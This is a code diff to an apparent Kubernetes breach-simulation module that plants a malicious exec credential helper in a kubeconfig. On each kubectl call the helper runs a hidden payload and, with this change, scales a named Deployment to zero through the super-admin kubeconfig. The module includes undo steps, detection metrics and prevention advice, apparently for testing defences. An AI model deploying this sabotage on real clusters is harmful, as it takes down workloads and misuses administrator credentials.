@@ -1,4 +1,12 @@
-import { credentialsFromHelper, defineBreak, quote, withExecHelper, writeFile } from "kbreak";
+import { credentialsFromHelper, defineBreak, quote, scale, withExecHelper, writeFile } from "kbreak";
+
+const superAdmin = "/etc/kubernetes/super-admin.conf";
+
+/** Not by the kubeconfig that runs the helper, or each kubectl would start another one for ever. */
+function scaling(deployment: string): string {
+  const [namespace = "", name = ""] = deployment.split("/");
+  return `kubectl --kubeconfig=${superAdmin} -n ${quote(namespace)} scale --replicas=0 deployment ${quote(name)}`;
+}
 
 export default defineBreak({
   title: "A kubeconfig that runs a program",
@@ -27,12 +35,19 @@ export default defineBreak({
         type: "string",
         default: "date >> /var/tmp/.auth-cache",
         description:
-          "A shell command that the helper runs at every kubectl. On a cluster: kubectl --kubeconfig … scale --replicas=0 …",
+          "A shell command that the helper runs at every kubectl. Of what it does, undo takes back the trace only.",
       },
       trace: {
         type: "string",
         default: "/var/tmp/.auth-cache",
         description: "The file that the payload writes, which undo removes; empty when it writes none.",
+      },
+      deployment: {
+        type: "string",
+        pattern: "^([^/]+/[^/]+)?$",
+        default: "",
+        description:
+          "A Deployment, as namespace/name, that is scaled to 0 now and again at every kubectl; undo brings its pods back. Empty: none.",
       },
     },
     additionalProperties: false,
@@ -55,20 +70,25 @@ export default defineBreak({
   ],
   metric: "apiserver_audit_event_total for writes of the admin; execsnoop on the node.",
   prevention: "Treat kubeconfigs as code: never use one that others can write, and review `exec` in them.",
-  reads: ({ kubeconfig }) => [kubeconfig],
-  refusal({ kubeconfig, helper }, facts) {
+  reads: ({ kubeconfig }) => [kubeconfig, superAdmin],
+  refusal({ kubeconfig, helper, deployment }, facts) {
+    if (deployment !== "" && (kubeconfig === superAdmin || facts.files[superAdmin] === undefined))
+      return `it scales a deployment by ${superAdmin}, which has to be there and another file than its kubeconfig`;
     const text = facts.files[kubeconfig];
     if (text === undefined) return `there is no ${kubeconfig}`;
     return withExecHelper(text, helper) ? undefined : `${kubeconfig} has no credentials in it to hand on`;
   },
-  operations({ kubeconfig, helper, payload, trace }, facts) {
+  operations({ kubeconfig, helper, payload, trace, deployment }, facts) {
     const sabotaged = withExecHelper(facts.files[kubeconfig] ?? "", helper);
     if (sabotaged === undefined) return [];
     // A shell of its own: a payload's syntax error or comment must not keep the credentials back.
-    const script = `#!/bin/sh\nsh -c ${quote(payload)} >/dev/null 2>&1 &\nprintf '%s\\n' ${quote(sabotaged.credential)}\n`;
+    const again = deployment === "" ? "" : `${scaling(deployment)} >/dev/null 2>&1 &\n`;
+    const script = `#!/bin/sh\nsh -c ${quote(payload)} >/dev/null 2>&1 &\n${again}printf '%s\\n' ${quote(sabotaged.credential)}\n`;
     return [
+      // Undone last, when nothing scales it down any more.
+      ...(deployment === "" ? [] : [scale(deployment, 0)]),
       ...(trace === "" ? [] : [writeFile(trace, "", { mode: "0600", grows: true })]),
-      writeFile(helper, script, { mode: "0700" }),
+      writeFile(helper, script, { mode: "0700", actor: deployment !== "" }),
       writeFile(kubeconfig, sabotaged.kubeconfig),
     ];
   },
